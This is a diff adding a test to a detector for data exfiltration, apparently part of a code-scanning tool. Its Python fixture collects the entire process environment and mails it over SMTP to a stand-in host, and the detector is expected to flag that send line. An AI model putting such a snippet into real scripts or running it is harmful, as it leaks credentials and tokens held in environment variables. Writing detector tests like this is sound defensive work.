@@ -269,4 +269,24 @@ describe('exfiltration: its AST visitor', () => {
     ].join('\n')
     expect(astHits('exfiltration', text)).toEqual([`fetch(u, { body }): ${sends}`])
   })
+  it('finds a copy of the whole environment mailed at the send, not at the client\'s import', () => {
+    const script = [
+      'import os',
+      'import smtplib',
+      '',
+      'def context():',
+      '    info = {"cwd": os.getcwd()}',
+      '    info.update(dict(os.environ))',
+      '    return info',
+      '',
+      'msg.set_content(str(context()))',
+      'with smtplib.SMTP("mail.build-metrics.example.net", 587) as s:',
+      '    s.send_message(msg)',
+    ].join('\n')
+    expect(hitsOf('exfiltration', { 'scripts/report.py': script }))
+      .toEqual(['error exfiltration scripts/report.py:10:1'])
+    // One variable of the environment is no copy of it.
+    expect(hitsOf('exfiltration', { 'scripts/report.py': script.replace('dict(os.environ)', 'os.environ["CI"]') }))
+      .toEqual([])
+  })
 })
